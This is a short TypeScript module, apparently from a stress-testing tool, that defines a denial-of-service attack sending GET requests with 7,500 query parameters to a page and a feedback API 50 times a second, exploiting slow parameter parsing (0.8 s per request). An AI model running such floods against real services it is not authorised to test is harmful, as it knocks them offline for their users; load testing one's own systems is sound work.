import type { Attack } from '../attack.ts';
import { sendAtRate } from '../send-at-rate.ts';

/** As long as a request's first line may be, in as many parameters. */
const LONG = `/?${'a&'.repeat(7_500)}`;
const MANY = `/api/feedback/?${'a&'.repeat(7_500)}`;

export const queries: Attack = {
  name: 'queries',
  describe: 'Queries of 7,500 parameters to pages and API, 50 times a second: parsed by pairs, each took 0.8 s.',
  run: (target, signal) =>
    sendAtRate(target, signal, {
      perSecond: 50,
      connections: 50,
      next: (at) => ({ method: 'GET', path: at % 2 === 0 ? LONG : MANY }),
    }),
};
